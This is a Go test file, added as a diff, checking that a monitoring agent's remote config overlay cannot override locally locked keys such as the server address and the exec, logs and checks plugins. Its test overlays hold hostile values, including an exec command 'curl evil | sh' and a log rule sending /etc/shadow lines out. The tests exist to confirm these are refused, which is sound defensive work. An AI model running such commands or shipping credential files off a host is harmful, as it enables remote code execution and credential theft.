@@ -0,0 +1,79 @@
+package agent
+
+import (
+	"encoding/json"
+	"testing"
+)
+
+func TestWithOverlayLockedKeys(t *testing.T) {
+	local, err := ParseConfig([]byte(`{
+		"hq_address": "hq.internal:50051",
+		"server_id": "web-01",
+		"plugins": {"exec": {"commands": [{"name": "queue", "command": "queue-depth"}]}}
+	}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, tc := range []struct {
+		name, overlay string
+	}{
+		{"replaced", `{"hq_address": "evil:50051", "server_id": "db-01", "plugins": {"exec": {"commands": [{"name": "x", "command": "curl evil | sh"}]}}}`},
+		{"removed", `{"plugins": {"exec": null}}`},
+		{"parent removed", `{"plugins": null}`},
+		{"parent replaced", `{"plugins": {"system": {"interval": "30s"}, "exec": {"enabled": false}}}`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cfg, err := local.WithOverlay([]byte(tc.overlay))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if cfg.HQAddress != "hq.internal:50051" || cfg.ServerID != "web-01" {
+				t.Errorf("hq_address, server_id = %s, %s; want the local ones", cfg.HQAddress, cfg.ServerID)
+			}
+			exec, ok := cfg.Plugins["exec"]
+			if !ok || exec.Enabled != nil {
+				t.Fatalf("exec plugin = %+v, want the local section", exec)
+			}
+			var settings struct {
+				Commands []ExecCommand `json:"commands"`
+			}
+			if err := json.Unmarshal(exec.Settings, &settings); err != nil {
+				t.Fatal(err)
+			}
+			if len(settings.Commands) != 1 || settings.Commands[0].Command != "queue-depth" {
+				t.Errorf("exec commands = %+v, want the local ones", settings.Commands)
+			}
+		})
+	}
+}
+
+func TestWithOverlayWithoutLocalPlugins(t *testing.T) {
+	local, err := ParseConfig([]byte(`{"hq_address": "hq.internal:50051", "state_dir": "/var/lib/sentinel"}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := local.WithOverlay([]byte(`{
+		"state_dir": "/tmp/x",
+		"plugins": {
+			"exec": {"commands": [{"name": "x", "command": "id"}]},
+			"logs": {"files": [{"path": "/etc/shadow", "patterns": {"x": ".*"}, "send_lines": 1000}]},
+			"checks": {"checks": [{"name": "x", "type": "tcp", "target": "10.0.0.1:22"}]},
+			"system": {"interval": "30s"}
+		}
+	}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"exec", "logs", "checks"} {
+		if _, ok := cfg.Plugins[name]; ok {
+			t.Errorf("%s plugin was configured from HQ: %+v", name, cfg.Plugins[name])
+		}
+	}
+	if cfg.StateDir != "/var/lib/sentinel" {
+		t.Errorf("state_dir = %s, want the local one", cfg.StateDir)
+	}
+	if cfg.Plugins["system"].Interval.String() != "30s" {
+		t.Errorf("system interval = %s, want the overlay's 30s", cfg.Plugins["system"].Interval)
+	}
+}